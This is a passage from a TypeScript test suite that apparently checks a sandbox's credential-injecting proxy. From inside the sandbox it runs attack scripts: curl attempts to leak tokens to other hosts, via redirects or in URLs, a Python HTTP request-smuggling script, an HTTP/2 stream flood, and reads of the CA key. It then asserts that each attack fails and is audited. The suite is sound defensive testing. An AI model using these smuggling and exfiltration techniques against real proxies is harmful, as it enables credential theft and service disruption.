        curl("other", `https://other.test:${other.port}/other`),
        curl("redirect", `https://api.test:${api.port}/redirect`, "--location-trusted"),
        // At its own host, in another header or the URL; and another secret's placeholder in this one's header.
        curl("other-header", `https://api.test:${api.port}/other-header`, '-H "X-Forward: $TOKEN"'),
        curl("in-url", `"https://api.test:${api.port}/in-url?key=$TOKEN"`),
        curl("cross-secret", `https://api.test:${api.port}/cross-secret`, '-H "Authorization: Bearer $ECHO_TOKEN"'),
      ].join("\n"),
    );
    const statuses = Object.fromEntries([...r.stdout.matchAll(/^([a-z-]+) (\d{3})$/gm)].map((m) => [m[1], m[2]]));
    assert.equal(statuses.plain, "403", r.stdout);
    assert.equal(statuses["plain-url"], "403", r.stdout);
    assert.equal(plain.connections, 0, "plain HTTP carrying a placeholder reached the server");
    for (const [label, u] of [
      ["rogue", rogue],
      ["misnamed", misnamed],
    ] as const) {
      assert.notEqual(statuses[label], "200", `${label}: ${r.stdout}`);
      assert.deepEqual(u.requests, [], `${label}: an upstream whose certificate does not verify got a request`);
      assert.ok(!u.received.toString("latin1").includes(SECRET));
    }
    // other.test is not intercepted: the tunnel carries the placeholder, never the value.
    assert.equal(statuses.other, "200");
    assert.equal(statuses.redirect, "200", "the redirect was followed to other.test");
    assert.equal(api.requests.find((req) => req.url === "/redirect")?.headers.authorization, `Bearer ${SECRET}`);
    const landed = other.requests.find((req) => req.url === "/landed");
    assert.ok(landed, "curl did not follow the redirect");
    assert.ok(!seenBy(other).includes(SECRET), "another host (or the redirect's target) got the real value");
    for (const label of ["other-header", "in-url", "cross-secret"]) {
      assert.equal(statuses[label], "403", `${label}: ${r.stdout}`);
      assert.ok(!api.requests.some((req) => req.url.startsWith(`/${label}`)), `${label}: the request reached the upstream`);
    }
    assert.ok(!seenBy(api).includes(ECHO_SECRET), "api.test got the value of a secret that belongs to echo.test");
    assert.ok(!r.stdout.includes(SECRET) && !r.stderr.includes(SECRET));
    await waitUntil("the plain-HTTP sighting is audited", () => audit().some((e) => e.type === "credential.exfiltration" && e.protocol === "http" && e.name === "gh"));
  });

  it("a request smuggled in the body of a GET (chunked, a Content-Length named in Connection, HTTP/2) stays a body: the next request's real value lands in no other request", async () => {
    // The smuggled request's Content-Length would swallow the next request on the guardian's pooled
    // origin connection, injected value and all, into a body the cloister can read back (red team).
    const smuggled = (port: number) => `POST /paste HTTP/1.1\\r\\nHost: api.test:${port}\\r\\nContent-Length: 200\\r\\n\\r\\n`;
    const script = String.raw`
import base64, os, re, socket, ssl, sys, urllib.parse
port = int(sys.argv[1]); smuggled = sys.argv[2].encode().decode("unicode_escape").encode()
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
auth = base64.b64encode(("%s:%s" % (urllib.parse.unquote(proxy.username), urllib.parse.unquote(proxy.password))).encode()).decode()
def tunnel():
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    s.sendall(("CONNECT api.test:%d HTTP/1.1\r\nHost: api.test:%d\r\nProxy-Authorization: Basic %s\r\n\r\n" % (port, port, auth)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    assert b" 200 " in head.split(b"\r\n")[0], head
    return ssl.create_default_context().wrap_socket(s, server_hostname="api.test")
def pair(label, framing, body):
    t = tunnel()
    t.sendall(("GET /smuggle-%s HTTP/1.1\r\nHost: api.test:%d\r\n%s\r\n" % (label, port, framing)).encode() + body)
    t.sendall(("GET /next-%s HTTP/1.1\r\nHost: api.test:%d\r\nAuthorization: Bearer %s\r\n\r\n" % (label, port, os.environ["TOKEN"])).encode())
    t.settimeout(3)
    got = b""
    try:
        while got.count(b"HTTP/1.1 ") < 2:
            chunk = t.recv(65536)
            if not chunk: break
            got += chunk
    except socket.timeout:
        pass
    print(label, " ".join(m.decode() for m in re.findall(rb"HTTP/1\.1 \d{3}", got)), flush=True)
pair("chunked", "Transfer-Encoding: chunked\r\n", b"%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled))
pair("connection", "Content-Length: %d\r\nConnection: content-length\r\n" % len(smuggled), smuggled)
`;
    const r = await attack(
      [
        `cat > /tmp/smuggle.py <<'EOF'\n${script}\nEOF`,
        `python3 /tmp/smuggle.py ${api.port} '${smuggled(api.port)}'`,
        `printf '${smuggled(api.port)}' | curl -sk --http2 -m 10 -X GET -T - -o /dev/null -w 'h2 %{http_code}\\n' https://api.test:${api.port}/smuggle-h2`,
        `curl -sk --http2 -m 10 -o /dev/null -w 'h2-next %{http_code}\\n' -H "Authorization: Bearer $TOKEN" https://api.test:${api.port}/next-h2`,
      ].join("\n"),
    );
    // Two answers on each connection: the GET's, and the next request's (swallowed, it had none).
    assert.match(r.stdout, /^chunked HTTP\/1\.1 200 HTTP\/1\.1 200$/m, r.stdout + r.stderr);
    assert.match(r.stdout, /^connection HTTP\/1\.1 200 HTTP\/1\.1 200$/m, r.stdout + r.stderr);
    assert.match(r.stdout, /^h2 200$/m, r.stdout + r.stderr);
    for (const label of ["chunked", "connection", "h2"]) {
      const carrier = api.requests.find((req) => req.url === `/smuggle-${label}`);
      assert.ok(carrier, `${label}: the carrying GET did not arrive`);
      assert.match(carrier.body, /^POST \/paste HTTP\/1\.1\r\n/, `${label}: the smuggled request is not the GET's body`);
      assert.equal(api.requests.find((req) => req.url === `/next-${label}`)?.headers.authorization, `Bearer ${SECRET}`, `${label}: the next request was not injected as usual`);
    }
    assert.deepEqual(api.requests.filter((req) => req.url === "/paste"), [], "the origin took a body for a request of its own");
    assert.ok(!api.requests.some((req) => req.body.includes(SECRET)), "the real value landed in a request body");
  });

  it(`at most ${MAX_EXCHANGES} intercepted requests of a cloister wait on origins at once: HTTP/2 streams past that get 503, and the places come back`, async () => {
    // 6 HTTP/2 connections of 100 streams each, to a path the origin never answers: unbounded, a
    // cloister's 1,024 connections could hold ~100,000 requests in the guardian's memory.
    const client = String.raw`
const http2 = require("node:http2"), net = require("node:net"), tls = require("node:tls");
const port = Number(process.argv[2]), proxy = new URL(process.env.HTTPS_PROXY);
const auth = Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
function session() {
  return new Promise((resolve, reject) => {
    const raw = net.connect(Number(proxy.port), proxy.hostname, () => raw.write("CONNECT api.test:" + port + " HTTP/1.1\r\nHost: api.test:" + port + "\r\nProxy-Authorization: Basic " + auth + "\r\n\r\n"));
    raw.once("data", (head) => {
      if (!/^HTTP\/1\.1 200/.test(String(head))) return reject(new Error(String(head)));
      const secure = tls.connect({ socket: raw, servername: "api.test", ALPNProtocols: ["h2"] }, () => resolve(http2.connect("https://api.test:" + port, { createConnection: () => secure })));
    });
  });
}
(async () => {
  const statuses = {};
  let answered = 0;
  const sessions = await Promise.all(Array.from({ length: 6 }, session));
  await new Promise((done) => {
    sessions.forEach((s, i) => { for (let j = 0; j < 100; j++) {
      const stream = s.request({ ":path": "/hang-" + i + "-" + j });
      stream.on("response", (h) => { statuses[h[":status"]] = (statuses[h[":status"]] || 0) + 1; if (++answered === 88) setTimeout(done, 1000); });
      stream.on("error", () => {});
    } });
  });
  console.log("statuses", JSON.stringify(statuses));
  for (const s of sessions) s.destroy();
})().catch((e) => { console.log("error", e.message); process.exit(1); });
`;
    const before = hanging.length;
    const r = await attack(`cat > /tmp/streams.cjs <<'EOF'
${client}
EOF
node /tmp/streams.cjs ${api.port}`);
    assert.match(r.stdout, new RegExp(`^statuses \{"503":${600 - MAX_EXCHANGES}\}$`, "m"), r.stdout + r.stderr);
    // The origin sees only as many as the guardian's origin connections to it carry; the rest wait in the guardian.
    assert.ok(hanging.length > before, "no request reached the origin");
    for (const res of hanging.splice(before)) res.destroy();
    // Their places are given back once the cloister's streams are gone.
    const again = await attack(`curl -sk --http2 -m 10 -o /dev/null -w 'after %{http_code}\n' https://api.test:${api.port}/after-cap`);
    assert.match(again.stdout, /^after 200$/m, again.stdout + again.stderr);
  });

  it("an origin echoing the injected value back in its body does not hand it to the cloister", async () => {
    const r = await attack(`curl -sS -m 10 -H "Authorization: Bearer $ECHO_TOKEN" https://echo.test:${echo.port}/echo-body; echo "exit $?"`);
    assert.ok(echo.requests.some((req) => req.url === "/echo-body" && req.headers.authorization === `Bearer ${ECHO_SECRET}`), "the echo origin did not get the value");
    assert.ok(!r.stdout.includes(ECHO_SECRET) && !r.stderr.includes(ECHO_SECRET), `the echoed value reached the cloister: ${r.stdout}`);
    await waitUntil("the echo is audited", () => audit().some((e) => e.type === "credential.echo" && e.name === "echoed"));
  });

  // Response headers are checked for the value, and compressed bodies decoded before the scan.
  for (const [path, how, flags] of [
    ["/echo-header", "in a response header", "-D -"],
    ["/echo-gzip", "in a gzip-compressed body", "--compressed"],
  ] as const) {
    it(`an origin echoing the injected value back ${how} does not hand it to the cloister`, async () => {
      const r = await attack(`curl -sS -m 10 ${flags} -H "Authorization: Bearer $ECHO_TOKEN" https://echo.test:${echo.port}${path}; echo "exit $?"`);
      assert.ok(echo.requests.some((req) => req.url === path && req.headers.authorization === `Bearer ${ECHO_SECRET}`), "the echo origin did not get the value");
      assert.ok(!r.stdout.includes(ECHO_SECRET) && !r.stderr.includes(ECHO_SECRET), `the echoed value reached the cloister: ${r.stdout}`);
    });
  }

  it("the real values appear in no output, guardian log, listing, config or audit record; injections are audited by name only", async () => {
    const listings = [await cli(["secret", "list"]), await cli(["secret", "list", "--json"]), await cli(["config", "show"]), await cli(["config", "show", "--json"]), await cli(["secret", "status"])];
    for (const r of listings) assert.equal(r.code, 0, r.stderr);
    const listed = JSON.parse(listings[1]?.stdout ?? "[]") as { name: string }[];
    assert.deepEqual(listed.map((s) => s.name).sort(), ["claude.api_key", "codex.api_key", "echoed", "gemini.api_key", "gh"]);
    const log = readFileSync(join(t.home, "state", "guardian.log"), "utf8");
    const auditText = readFileSync(join(t.home, "state", "audit", "audit.jsonl"), "utf8");
    const injections = audit().filter((e) => e.type === "credential.inject");
    assert.ok(injections.some((e) => e.name === "gh" && e.host === "api.test" && e.header === "authorization"), "an injection is not audited");
    for (const value of [SECRET, ECHO_SECRET, CLAUDE_KEY, CODEX_KEY, GEMINI_KEY]) {
      for (const [place, text] of [
        ["guardian log", log],
        ["audit log", auditText],
        ["command outputs", outputs.join("\n")],
      ] as const) {
        if (value === ECHO_SECRET && place === "command outputs") continue; // the echo cases judge their own outputs
        assert.ok(!text.includes(value), `a real value is in the ${place}`);
      }
    }
    assertNoCanaryAnywhere(t, ...outputs);
  });

  it("afterwards: host files, the broker's keys, the vault and the system trust store unchanged; no marker; a second cloister runs", async () => {
    assert.deepEqual(diffSnapshots(hostBefore, hostState()), []);
    assert.deepEqual(presentMarkers(markers), []);
    // A guardian restart (the trust bundle is written again) changes nothing either.
    const stop = await cli(["guardian", "stop"]);
    assert.equal(stop.code, 0, stop.stderr);
    await assertLive(t);
    assert.deepEqual(diffSnapshots(hostBefore, hostState()), []);
    assert.deepEqual(presentMarkers(markers), []);
  });
});

// ---------------------------------------------------------------------------------------------

const USER_SKIP = asUserSkipReason();

describe("escape/credentials: as a non-root user", { skip: USER_SKIP }, () => {
  let t: UserInstance;
  let ca: TestCa;
  let api: HttpsUpstream;

  before(async () => {
    t = createUserInstance("cru");
    ca = createTestCa();
    api = await startHttpsUpstream(ca, ["api.test"]);
    // The user's guardian reads the test CA: a copy it may read, beside its own config.
    const caCopy = join(t.home, "config", "upstream-ca.pem");
    writeFileSync(caCopy, readFileSync(ca.certFile));
    chownSync(caCopy, t.user.uid, t.user.gid);
    trustUpstreamCa(t.home, caCopy);
    const set = await t.cli(["secret", "set", "gh", "--host", `api.test:${api.port}`, "--header", "Authorization: Bearer {}"], { input: SECRET });
    assert.equal(set.code, 0, set.stderr);
  });
  after(async () => {
    await t?.teardown();
    await api?.close();
    if (ca) rmSync(ca.dir, { recursive: true, force: true });
  });

  it("the user's guardian keeps its CA key 0600 and its own; inside, the key is out of reach and only the placeholder is held, while the upstream gets the value", async () => {
    const key = statSync(join(t.home, "state", "broker", "ca-key.pem"));
    assert.equal(key.mode & 0o777, 0o600);
    assert.equal(key.uid, t.user.uid);
    const r = await t.cli([
      "run",
      ...["--resolve", "api.test=127.0.0.1", "--allow-private", `api.test:${api.port}`, "--secret", "TOKEN=gh", "--", "sh", "-c"],
      [
        `cat ${join(t.home, "state", "broker", "ca-key.pem")} >/dev/null 2>&1 && echo key=readable || echo key=unreachable`,
        `case "$TOKEN" in ghp_*) echo token=placeholder-shaped;; *) echo token=other;; esac`,
        `curl -sS -m 10 -H "Authorization: Bearer $TOKEN" https://api.test:${api.port}/as-user`,
      ].join("; "),
    ]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /key=unreachable/);
    assert.match(r.stdout, /token=placeholder-shaped/);
    assert.match(r.stdout, /hello from upstream/);
    assert.ok(!r.stdout.includes(SECRET) && !r.stderr.includes(SECRET), "the value reached the cloister");
    assert.equal(api.requests.find((req) => req.url === "/as-user")?.headers.authorization, `Bearer ${SECRET}`);
  });
});
